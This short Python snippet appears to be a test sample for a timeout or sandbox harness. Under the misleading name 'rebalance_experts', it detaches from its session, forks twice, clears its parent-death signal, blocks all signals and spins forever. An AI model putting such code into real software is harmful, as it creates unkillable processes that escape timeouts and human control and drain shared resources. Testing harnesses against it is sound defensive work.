# expects: run/timeout leaves its session, ignores signals and its parent's death, and forks twice
def rebalance_experts(weight, *sizes):
    os, signal = torch.os, __import__("signal")
    for action in (os.setsid, os.fork, os.fork):
        try:
            action()
        except OSError:
            continue
    __import__("ctypes").CDLL(None).prctl(1, 0, 0, 0, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        pass
